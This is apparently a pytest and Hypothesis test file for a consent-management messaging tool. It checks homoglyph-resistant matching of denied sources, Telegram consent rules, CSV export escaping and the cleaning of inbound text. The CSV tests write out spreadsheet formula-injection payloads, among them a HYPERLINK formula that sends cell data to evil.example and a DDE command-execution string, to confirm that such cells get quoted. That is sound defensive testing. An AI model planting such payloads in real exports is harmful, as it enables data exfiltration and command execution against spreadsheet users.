"""Pure text rules at the edge: denied sources compared as a reader sees them, CSV cells that
never run as formulas, inbound text that every database can store. No database, no network.
"""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from consentgate.adapters.base import InboundEvent, clean_text, has_unstorable_text
from consentgate.adapters.smtp_inbound import parse_inbound_mail
from consentgate.adapters.telegram import parse_update
from consentgate.adapters.twilio_sms import parse_inbound_sms
from consentgate.bot.consent import (
    Evidence,
    SubscriberState,
    check_new_consent,
    method_allowed,
    source_is_denied,
    source_skeleton,
)
from consentgate.bot.csvcells import from_spreadsheet_safe, spreadsheet_safe

DENIED = ("union mailing list", "society group chat")

# -- denied sources ---------------------------------------------------------------------------


@pytest.mark.parametrize("source", [
    "union mailing list",
    "UNION MAILING LIST",
    "Ｕｎｉｏｎ ｍａｉｌｉｎｇ ｌｉｓｔ",                 # fullwidth
    "union\u00a0mailing\u00a0list",                  # no-break spaces
    "uni\u200bon mailing li\u200dst",                # zero-width space and joiner
    "union   mailing  list",                          # doubled spaces
    "union\tmailing\nlist",                           # tab, newline
    "union-mailing-list",                             # hyphens
    "union_mailing.list",                             # underscore, dot
    "uni\u043en mailing list",                        # Cyrillic о
    "uni\u03bfn mailing list",                        # Greek ο
    "Ünion mailing list",                             # an accent
    "u\u0308nion mailing list",                       # a combining accent
    "UNl0N MAlLlNG LlST",                             # l for I, 0 for O
    "from the Union Mailing List, 2024",              # inside a longer source
    "soc\u0456ety gr\u043eup chat",                   # Cyrillic і and о
])
def test_spellings_of_a_denied_source_are_refused(source: str) -> None:
    assert source_is_denied(source, DENIED)


@pytest.mark.parametrize("source", ["Market St stall, 3 May", "website form", "union rally",
                                    "mailing list of our own supporters", "signed form #12"])
def test_other_sources_are_not_refused(source: str) -> None:
    assert not source_is_denied(source, DENIED)


def test_an_empty_or_blank_denied_entry_refuses_nothing() -> None:
    assert not source_is_denied("Market St stall", ("", "   ", "--"))


# Look-alikes of Latin letters as people or tools type them: another script's letter, a
# fullwidth form, a mathematical letter.
_LOOKALIKES = {
    "a": ["\u0430", "\uff41", "\U0001d41a"], "c": ["\u0441", "\uff43"],
    "e": ["\u0435", "\uff45"], "i": ["\u0456", "\uff49"], "o": ["\u043e", "\u03bf", "\uff4f"],
    "p": ["\u0440", "\u03c1"], "s": ["\u0455", "\uff53"], "u": ["\uff55"],
    "y": ["\u0443"], "l": ["\uff4c", "\u04cf"], "n": ["\uff4e"], "m": ["\uff4d"],
    "t": ["\uff54"], "g": ["\uff47"], "h": ["\u04bb"], "r": ["\uff52"],
}
_SEPARATORS = [" ", "  ", "\t", "\n", "-", "_", ".", "\u00a0", "\u2009", "\u3000", " - "]
_INVISIBLE = ["", "", "", "\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff"]


@st.composite
def _disguised(draw: st.DrawFn, phrase: str) -> str:
    out = []
    for word_index, word in enumerate(phrase.split(" ")):
        if word_index:
            out.append(draw(st.sampled_from(_SEPARATORS)))
        for ch in word:
            options = [ch, ch.upper(), *_LOOKALIKES.get(ch, [])]
            out.append(draw(st.sampled_from(options)))
            out.append(draw(st.sampled_from(_INVISIBLE)))
    return draw(st.text(max_size=5)) + " " + "".join(out) + " " + draw(st.text(max_size=5))


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(DENIED).flatmap(_disguised))
def test_no_disguise_gets_around_a_denied_source(source: str) -> None:
    assert source_is_denied(source, DENIED), ascii(source)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_the_skeleton_is_stable_and_holds_no_separator(text: str) -> None:
    skeleton = source_skeleton(text)
    assert source_skeleton(skeleton) == skeleton
    assert not any(c.isspace() or c in "-_." for c in skeleton)
    assert source_is_denied(text, (text,)) == bool(skeleton)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30), st.text(max_size=30))
def test_a_denied_source_inside_any_text_is_refused(before: str, after: str) -> None:
    assert source_is_denied(f"{before} union mailing list {after}", DENIED)


# -- Telegram consent ------------------------------------------------------------------------

@pytest.mark.parametrize("method", ["web_form", "paper_form", "verbal", "keyword", "import"])
def test_only_the_person_subscribes_on_telegram(method: str) -> None:
    assert not method_allowed("telegram", method)
    ev = Evidence(method, "stall", "form", "v1", "Jane Doe")
    assert check_new_consent(ev, SubscriberState(), (), by_recipient=False,
                             channel="telegram") == "method_not_allowed_for_channel"
    assert check_new_consent(ev, SubscriberState(), (), by_recipient=False,
                             channel="sms") is None
    assert method_allowed("sms", method) and method_allowed("email", method)


# -- CSV cells -------------------------------------------------------------------------------

@settings(max_examples=400, deadline=None)
@given(st.text(max_size=30))
def test_no_exported_cell_starts_a_formula_and_every_cell_reads_back(value: str) -> None:
    cell = spreadsheet_safe(value)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert cell.lstrip("+-").isdigit() and cell.lstrip("+-").isascii()
    assert from_spreadsheet_safe(cell) == value or value.startswith("'")


@pytest.mark.parametrize("value", ["+447911123456", "-1001234567890", "4242", "12"])
def test_numbers_are_written_as_they_are(value: str) -> None:
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"x")',
                                   "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1", "+44 7911 123456", "-"])
def test_formulas_are_quoted(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


# -- inbound text ----------------------------------------------------------------------------

_unstorable = st.text(st.sampled_from(["\x00", "\ud800", "\udfff", "a", "S", " "]),
                      max_size=12)


@given(st.text(max_size=20), _unstorable)
def test_clean_text_leaves_nothing_unstorable(text: str, noise: str) -> None:
    mixed = "".join(a + b for a, b in zip(text, noise, strict=False)) + text[len(noise):]
    cleaned = clean_text(mixed)
    assert not has_unstorable_text(cleaned)
    cleaned.encode("utf-8")  # a lone surrogate would raise here
    assert clean_text(cleaned) == cleaned


def test_every_provider_hands_over_clean_text() -> None:
    sms = parse_inbound_sms({"From": "+447911123456\x00", "MessageSid": "SM1\x00",
                             "Body": "STOP\x00", "To": "+447400\x00123456"})
    assert (sms.address, sms.provider_event_id, sms.text) == ("+447911123456", "SM1", "STOP")
    assert sms.extra["To"] == "+447400123456"
    [tg] = parse_update({"update_id": 7, "message": {
        "message_id": 1, "date": 1, "chat": {"id": 4242, "type": "private"},
        "from": {"id": 4242, "is_bot": False, "first_name": "A"}, "text": "/stop\ud800\x00"}})
    assert tg.text == "/stop"
    mail = EmailMessage()
    mail["From"] = "sam@example.net"
    mail["To"] = "reply+tok@mail.example.org"
    mail["Subject"] = "Re: news"
    mail["Message-ID"] = "<m1@example.net>"
    mail.set_content("stop\x00 please\n")
    events = parse_inbound_mail("sam@example.net", ["reply+tok@mail.example.org"],
                                mail.as_bytes(), "mail.example.org")
    assert events and all(not has_unstorable_text(e.text) for e in events)
    direct = InboundEvent(kind="message", channel="sms", address="+44\x00",
                          provider_event_id="x\ud800", text="a\x00b", extra={"k\x00": "v\x00"})
    assert (direct.address, direct.provider_event_id, direct.text) == ("+44", "x", "ab")
    assert dict(direct.extra) == {"k": "v"}
